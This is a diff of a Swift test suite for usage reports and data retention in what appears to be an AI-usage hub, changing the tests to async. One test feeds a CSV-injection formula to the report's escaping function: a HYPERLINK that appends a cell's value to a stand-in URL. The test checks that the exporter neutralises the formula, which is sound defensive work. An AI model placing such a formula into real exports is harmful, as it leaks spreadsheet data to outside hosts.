@@ -9,7 +9,7 @@ import Testing
 @Suite struct ReportsAndRetentionTests {
     /// A model name a client chose is text, never a formula a spreadsheet runs (review finding: CSV
     /// injection); amounts, negative ones too, stay numbers.
-    @Test func freeTextCellsCannotBecomeFormulas() throws {
+    @Test func freeTextCellsCannotBecomeFormulas() async throws {
         #expect(ReportCSV.text(#"=HYPERLINK("http://x/?"&A1,"x")"#) == #"'=HYPERLINK("http://x/?"&A1,"x")"#)
         for start in ["+", "-", "@", "\t", "\r"] { #expect(ReportCSV.text(start + "1") == "'" + start + "1") }
         #expect(ReportCSV.text("openai/gpt-4o") == "openai/gpt-4o" && ReportCSV.text("") == "")
@@ -19,14 +19,14 @@ import Testing
         #expect(line.contains(",'=1+1,") && line.contains(",-0.000000005,"))
     }
 
-    @Test func aNewDatabaseHandsFreedPagesBackIncrementally() throws {
+    @Test func aNewDatabaseHandsFreedPagesBackIncrementally() async throws {
         let hub = try TemporaryHub()
         #expect(try hub.store.sqliteRead(UsageRetention.isIncremental))
         #expect(try hub.store.sqliteRead { db in try String.fetchOne(db, sql: "PRAGMA journal_mode") } == "wal")
-        #expect(try hub.run(Admin.RetentionGet()).incrementalVacuum)
+        #expect(try await hub.run(Admin.RetentionGet()).incrementalVacuum)
     }
 
-    @Test func theMigrationFillsTheHourlyRollupFromExistingEvents() throws {
+    @Test func theMigrationFillsTheHourlyRollupFromExistingEvents() async throws {
         let path = FileManager.default.temporaryDirectory.appendingPathComponent("backfill-\(UUID().uuidString).sqlite").path
         defer { for suffix in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: path + suffix) } }
         let queue = try DatabaseQueue(path: path)
@@ -60,7 +60,7 @@ import Testing
         #expect(fromRollup.map { Array($0.databaseValues) } == fromEvents.map { Array($0.databaseValues) })
     }
 
-    @Test func aMonthIsCutAtMidnightOfTheGovernanceTimeZone() throws {
+    @Test func aMonthIsCutAtMidnightOfTheGovernanceTimeZone() async throws {
         #expect(try GovernanceTimeZone.monthHours("2026-11", in: GovernanceTimeZone.utc) == ("2026-11-01 00", "2026-12-01 00"))
         let berlin = try #require(TimeZone(identifier: "Europe/Berlin"))
         // November starts at 23:00 UTC the day before (CET, +1); April at 22:00 (CEST, +2).
@@ -75,7 +75,7 @@ import Testing
         }
     }
 
-    @Test func exportPagesGiveEveryEventOnceEvenWhenTimesTie() throws {
+    @Test func exportPagesGiveEveryEventOnceEvenWhenTimesTie() async throws {
         let hub = try TemporaryHub()
         let tie = Date(timeIntervalSince1970: 1_795_000_000)
         try hub.store.sqliteWrite { db in
@@ -90,7 +90,7 @@ import Testing
         var seen: [Int64] = []
         var request = Admin.UsageExport(since: tie, until: tie.addingTimeInterval(3_600), limit: 7)
         while true {
-            let page = try hub.run(request)
+            let page = try await hub.run(request)
             #expect(page.events.count <= 7)
             seen += page.events.compactMap(\.id)
             guard let next = page.next else { break }
@@ -103,7 +103,7 @@ import Testing
         }
         #expect(seen.map { times[$0]! } == seen.map { times[$0]! }.sorted())
         // The range is [since, until): the first second's events only.
-        let first = try hub.run(Admin.UsageExport(since: tie, until: tie.addingTimeInterval(1), limit: 1_000))
+        let first = try await hub.run(Admin.UsageExport(since: tie, until: tie.addingTimeInterval(1), limit: 1_000))
         #expect(first.events.count == 257 - 52 + 1)   // 52 of them (index 0, 5, … 255) are later but index 0
         #expect(first.next == nil)
     }
@@ -126,10 +126,10 @@ import Testing
         } }
         let before = try rollups()
         let month = String(UsageRollup.day(now.addingTimeInterval(-60 * 86_400)).prefix(7))
-        let reportBefore = try hub.run(Admin.ReportChargeback(month: month, by: .model))
+        let reportBefore = try await hub.run(Admin.ReportChargeback(month: month, by: .model))
         #expect(reportBefore.total.calls > 600)
 
-        try hub.run(Admin.RetentionSet(days: 30))
+        try await hub.run(Admin.RetentionSet(days: 30))
         let cutoff = try #require(try await UsageRetention.cutoff(hub.store, now: now))
         var pruned = 0
         while true {
@@ -138,19 +138,19 @@ import Testing
             if count < 250 { break }
         }
         #expect(pruned == 3_000 - 30 * 24 - 1)
-        let status = try hub.run(Admin.RetentionGet())
+        let status = try await hub.run(Admin.RetentionGet())
         #expect(status.events == 30 * 24 + 1)
         #expect(status.prunedTotal == Int64(pruned))
         #expect(try #require(status.oldestEvent) >= cutoff.addingTimeInterval(-1))
         #expect(try rollups() == before)
-        #expect(try hub.run(Admin.ReportChargeback(month: month, by: .model)) == reportBefore)
+        #expect(try await hub.run(Admin.ReportChargeback(month: month, by: .model)) == reportBefore)
         // Freed pages go back to the file system.
         let freeBefore = try hub.store.sqliteRead { db in try Int.fetchOne(db, sql: "PRAGMA freelist_count") ?? 0 }
         #expect(freeBefore > 0)
         #expect(try await UsageRetention.vacuumStep(hub.store, pages: 100_000).free == 0)
     }
 
-    @Test func retentionKeepsTheEventsOfTheCurrentBudgetMonthAndWeek() throws {
+    @Test func retentionKeepsTheEventsOfTheCurrentBudgetMonthAndWeek() async throws {
         let utc = GovernanceTimeZone.utc
         let at = { (text: String) throws -> Date in try Date(text, strategy: .iso8601) }
         // 30 days before 31 Dec 18:00 is 1 Dec 18:00: December's budgets still count 1 Dec, so it stays.
@@ -166,14 +166,14 @@ import Testing
         #expect(UsageRetention.cutoff(days: 90, now: try at("2026-11-18T09:00:00Z"), zone: utc) == (try at("2026-08-20T09:00:00Z")))
     }
 
-    @Test func retentionRefusesDaysOutOfRangeAndChangesNothing() throws {
+    @Test func retentionRefusesDaysOutOfRangeAndChangesNothing() async throws {
         let hub = try TemporaryHub()
-        try hub.run(Admin.RetentionSet(days: 90))
+        try await hub.run(Admin.RetentionSet(days: 90))
         let before = try hub.snapshot()
         for days in [0, -1, 36_501] {
-            #expect(throws: HubError.self) { try hub.run(Admin.RetentionSet(days: days)) }
+            #expect(throws: HubError.self) { try await hub.run(Admin.RetentionSet(days: days)) }
         }
         #expect(try hub.snapshot() == before)
-        #expect(try hub.run(Admin.RetentionSet(days: nil)).days == nil)
+        #expect(try await hub.run(Admin.RetentionSet(days: nil)).days == nil)
     }
 }
